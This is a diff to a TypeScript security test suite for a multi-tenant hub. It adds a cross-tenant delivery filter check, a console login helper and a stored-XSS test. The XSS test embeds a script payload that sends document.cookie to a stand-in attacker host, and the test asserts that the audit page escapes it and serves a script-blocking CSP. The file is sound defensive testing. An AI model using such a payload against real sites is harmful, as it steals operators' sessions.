@@ -72,6 +72,20 @@ async function raw(url: string, method: string, target: string, lines: [string, 
 
 const sigLines = (h: Headers): [string, string][] => Object.entries(h);
 
+const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
+
+/** The operator signs in to the console: the session cookie its browser then holds. */
+async function consoleCookie(hubUrl: string, adminToken: string): Promise<string> {
+  const login = await fetch(`${hubUrl}/console/login`, {
+    method: "POST",
+    redirect: "manual",
+    headers: { "content-type": "application/x-www-form-urlencoded", origin: hubUrl },
+    body: form({ token: adminToken }),
+  });
+  expect(login.status).toBe(303);
+  return (login.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
+}
+
 let w: HostileWorld | undefined;
 let before: Awaited<ReturnType<typeof snapshotOf>> | undefined;
 
@@ -361,7 +375,7 @@ describe("tenant T attacks tenant V", () => {
     }
   });
 
-  it("asks self-service for V's deliveries (?platId=V): 400, and its own list holds only its own", async (ctx) => {
+  it("asks self-service for V's deliveries (?platId=V, ?device=V's washer): 400, or only its own", async (ctx) => {
     const { hub, t, v } = world(ctx);
     const self = selfClient(hub.url, t.creds);
     const sneaky = await self("GET", `/deliveries?platId=${v.creds.platId}`);
@@ -371,6 +385,10 @@ describe("tenant T attacks tenant V", () => {
     expect(own.status).toBe(200);
     const platIds = new Set((own.body.deliveries as { platId: string }[]).map((d) => d.platId));
     expect([...platIds]).toEqual([t.creds.platId]);
+    // Filtering by V's washer finds nothing: the filter narrows T's own list.
+    const byDevice = await self("GET", `/deliveries?device=${v.washer}`);
+    expect(byDevice.status).toBe(200);
+    expect(byDevice.body.deliveries).toEqual([]);
   });
 
   it("lists or replays V's deliveries through the operator routes with T's signature: 401", async (ctx) => {
@@ -781,16 +799,8 @@ describe("tenant T attacks tenant V", () => {
 
   it("makes the operator's browser rotate V's secret from another site (console CSRF): 403, and the admin API takes no cookie", async (ctx) => {
     const { hub, v } = world(ctx);
-    const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
-    const login = await fetch(`${hub.url}/console/login`, {
-      method: "POST",
-      redirect: "manual",
-      headers: { "content-type": "application/x-www-form-urlencoded", origin: hub.url },
-      body: form({ token: hub.adminToken }),
-    });
-    expect(login.status).toBe(303);
     // What the operator's browser holds; T's page makes it post.
-    const cookie = (login.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
+    const cookie = await consoleCookie(hub.url, hub.adminToken);
     const target = `${hub.url}/console/platforms/${v.creds.platId}/secret`;
     const attempts: Headers[] = [
       { origin: "https://tenant-t.example", "content-type": "application/x-www-form-urlencoded" },
@@ -818,6 +828,29 @@ describe("tenant T attacks tenant V", () => {
     });
     expect(api.status).toBe(401);
     expect(((await api.json()) as { RetCode: string }).RetCode).toBe("401");
+  });
+
+  it("plants markup in the operator's console through a claimed PlatID (audit log page): shown escaped, no script allowed", async (ctx) => {
+    const { hub } = world(ctx);
+    const payload = `<script>fetch("https://tenant-t.example/?"+document.cookie)</script>`;
+    const probe = await send(
+      `${hub.url}/v1/users/devices`,
+      "POST",
+      { "content-type": "application/json", PlatID: payload },
+      "{}",
+    );
+    expect(probe.status).toBe(401);
+    expect(probe.body.RetCode).toBe("401");
+    const page = await fetch(`${hub.url}/console/audit?action=auth.standard`, {
+      headers: { cookie: await consoleCookie(hub.url, hub.adminToken) },
+    });
+    expect(page.status).toBe(200);
+    const html = await page.text();
+    expect(html).toContain("&lt;script&gt;fetch(");
+    expect(html).not.toContain("<script");
+    const csp = page.headers.get("content-security-policy") ?? "";
+    expect(csp).toContain("default-src 'none'");
+    expect(csp).not.toContain("script-src");
   });
 
   it("scrapes /metrics without the token, with T's secrets as bearer, or with T's signature: 401", async (ctx) => {
